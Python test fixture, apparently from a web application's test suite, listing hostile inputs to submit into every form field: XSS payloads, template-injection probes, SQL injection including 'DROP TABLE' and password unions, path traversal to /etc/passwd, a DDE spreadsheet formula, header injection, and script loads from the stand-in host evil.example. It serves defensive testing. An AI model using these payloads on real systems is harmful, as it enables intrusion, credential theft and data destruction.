"""Texts that do harm wherever a text becomes something else: markup, script, template, query, path,
formula, number, line. Self-made; used in every field of every form and in every stored text.
"""

RAN = "coordinationWasAttacked"
"""The global that every script in here sets."""

# Markup -----------------------------------------------------------------------------------------

SCRIPTS = [
    f"<script>{RAN}=1</script>",
    f"<img src=x onerror={RAN}=1>",
    f"<svg onload={RAN}=1>",
    f'"><svg/onload={RAN}=1>',
    f"' autofocus onfocus={RAN}=1 x='",
    f'" onmouseover={RAN}=1 onpointerenter={RAN}=1 style=position:fixed;inset:0 "',
    f"</textarea><script>{RAN}=1</script>",
    f"</title></style></script><script>{RAN}=1</script>",
    f"--><script>{RAN}=1</script><!--",
    f"<details open ontoggle={RAN}=1>",
    f"<iframe srcdoc='<script>parent.{RAN}=1</script>'>",
    f"<a href=javascript:{RAN}=1>x</a>",
    f"javascript:{RAN}=1",
    f"[x](javascript:{RAN}=1)",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RAN}=1>",
    f"<form action=javascript:{RAN}=1><button id=location>",
    f"'-{RAN}=1-'",
    f"\\';{RAN}=1//",
    f"${{{RAN}=1}}",
    f"</script><script>{RAN}=1</script>",
    f"<base href=//evil.example/><script src={RAN}.js></script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    f"<div hx-get=//evil.example hx-trigger=load hx-on:load={RAN}=1>",
    f"&lt;script&gt;{RAN}=1&lt;/script&gt;",
    f"＜script＞{RAN}=1＜/script＞",
]
# For columns that hold few letters.
SHORT_SCRIPTS = ["<b id=x>", '"><b>', "'><i>", "<svg>"]

# Other languages --------------------------------------------------------------------------------

TEMPLATES = [
    "{{ 7|add:7 }}",
    "{{ request.user.password }}",
    "{% load static %}{% debug %}",
    "{% extends 'x' %}",
    "{{ ''.__class__.__mro__ }}",
    "%(person)s %s %d %",
    "{0.__class__} {person}",
    "#{7*7} ${7*7}",
]
QUERIES = [
    "' OR 1=1 --",
    "'; DROP TABLE tasks_task; --",
    '" union select password from accounts_user --',
    "\\' OR '1'='1",
    "1); select pg_sleep(9)--",
    "%' ESCAPE '",
    "_%_%",
]
PATHS = ["../../../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd\0.csv", "file:///etc/passwd"]
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", "＝1+1"]
LINES = ["a\r\nSet-Cookie: x=1", "a\nBcc: evil@example.com", "a\x0bb\x0cc\x1cd\x85e\u2028f\u2029g"]

# Letters ----------------------------------------------------------------------------------------

LETTERS = [
    "a\0b",
    "\u202eтекст\u2066\u2069",
    "a\u200b\u200d\u2060\ufeffb",
    "Z" + "\u0300\u0323\u0489" * 60,
    "👩‍👩‍👧‍👦🏳️‍🌈" * 3,
    "аdmin",
    "\U00020bb7野屋",
    "\ufffe\uffff",
    "ﷺ﷽",
    "I\u0307ı",
]
BYTES = [b"\xed\xa0\x80", b"\xff\xfe", b"\xc0\xaf..", b"\xf5\x80\x80\x80", b"%ed%b0%80"]
"""No UTF-8: a lone surrogate, others that nobody may send."""

LONG = "长" * 300_000

# Numbers and days -------------------------------------------------------------------------------

NUMBERS = [
    "9" * 20,
    "-1",
    "-0",
    "NaN",
    "1e400",
    "Infinity",
    "1_000",
    "0x10",
    "١٢",
    "1e5",
    "1,5",
    "²",
]
DAYS = ["2024-13-40", "0001-01-01", "9999-12-31", "2024-02-30", "٢٠٢٤-٠١-٠١", "2024-10-05T25:61"]
SHAPES = ["[]", '{"a": 1}', "[1, 2]", "null", "true", "undefined"]

TEXTS = [*SCRIPTS, *TEMPLATES, *QUERIES, *PATHS, *FORMULAS, *LINES, *LETTERS, *SHAPES]
